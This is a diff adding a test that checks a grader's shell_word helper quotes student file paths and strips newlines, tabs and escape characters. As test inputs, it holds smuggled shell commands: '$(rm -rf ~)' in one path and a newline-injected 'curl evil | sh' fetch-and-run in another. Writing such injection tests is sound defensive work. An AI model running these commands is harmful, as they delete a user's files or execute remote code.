@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 import json
+import shlex
 
-from grader.text import name_text, printable, valid_text
+from grader.text import name_text, printable, shell_word, valid_text
 
 
 def test_printable_keeps_text_and_shows_control_characters() -> None:
@@ -25,3 +26,11 @@ def test_a_name_that_is_not_utf8_keeps_its_bytes_visible_and_distinct() -> None:
     assert name_text(latin) == "caf\\xe9" and name_text(other) == "caf\\xe8"  # two students stay two
     assert name_text("café") == "café" and name_text("ann") == "ann"
     assert name_text("odd \ud800") == "odd \ufffd"  # a surrogate no file system makes
+
+
+def test_a_shell_word_is_quoted_and_stays_on_one_line() -> None:
+    for word in ("plain/toy.py", "bob smith/hw7.py", "it's $(rm -rf ~)/hw7.py", "café/νᵦ.py"):
+        assert shell_word(word) == shlex.quote(word) and shlex.split(shell_word(word)) == [word]  # runs as is
+    shown = shell_word("eve\ncurl evil | sh #\t\x1b[2J/toy.py")
+    assert "\n" not in shown and "\t" not in shown and "\x1b" not in shown  # one line, nothing raw
+    assert shlex.split(shown) == ["eve\\x0acurl evil | sh #\\x09\\x1b[2J/toy.py"]  # one word, quoted
